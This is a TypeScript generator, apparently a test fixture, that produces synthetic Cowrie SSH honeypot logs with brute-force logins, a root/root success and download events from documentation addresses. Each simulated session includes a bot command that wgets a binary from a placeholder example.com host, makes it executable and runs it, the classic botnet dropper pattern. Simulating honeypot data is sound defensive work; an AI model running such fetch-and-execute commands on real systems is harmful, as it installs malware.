/** Lines in the log of one visit; they are what cowrie writes for an SSH bot. */
const VISIT_LINES = 20;
const START = Date.UTC(2026, 0, 1);

/** Makes a log with the given number of lines: visits of twenty lines from a thousand addresses. */
export function madeCowrieLog(lines: number): string {
  const visits = Array.from({ length: Math.ceil(lines / VISIT_LINES) }, (_, visit) => visit);
  return visits.flatMap(visitLines).slice(0, lines).join("\n") + "\n";
}

function visitLines(visit: number): string[] {
  const host = `198.51.${(visit >> 8) % 4 + 100}.${visit % 256}`;
  const session = (visit * 2654435761 % 2 ** 32).toString(16).padStart(12, "0");
  const url = `http://${visit % 50}.example.com/bins/arm${visit % 9}`;
  const shasum = visit.toString(16).padStart(64, "0");
  const logins = Array.from({ length: 10 }, (_, attempt) => {
    const [username, password] = [["root", "admin", "pi"][attempt % 3], `pw${visit + attempt}`];
    const message = `login attempt [${username}/${password}] failed`;
    return { eventid: "cowrie.login.failed", username, password, message };
  });
  const commands = Array.from({ length: 5 }, (_, number) => {
    const input = `cd /tmp || cd /run; wget ${url}?${number}; chmod 777 arm; ./arm ${visit % 7}`;
    return { eventid: "cowrie.command.input", input, message: `CMD: ${input}` };
  });
  const records = [
    { eventid: "cowrie.session.connect", src_port: 40_000 + visit % 20_000, dst_port: 2222 },
    { eventid: "cowrie.client.version", version: "SSH-2.0-Go" },
    ...logins,
    { eventid: "cowrie.login.success", username: "root", password: "root", message: "succeeded" },
    ...commands,
    { eventid: "cowrie.session.file_download", url, shasum, outfile: `var/${shasum}` },
    { eventid: "cowrie.session.closed", duration: 12.5, message: "Connection lost" },
  ];
  return records.map((record, line) => {
    const timestamp = new Date(START + visit * 30_000 + line * 500).toISOString();
    return JSON.stringify({ ...record, timestamp, sensor: "hp-1", session, src_ip: host });
  });
}
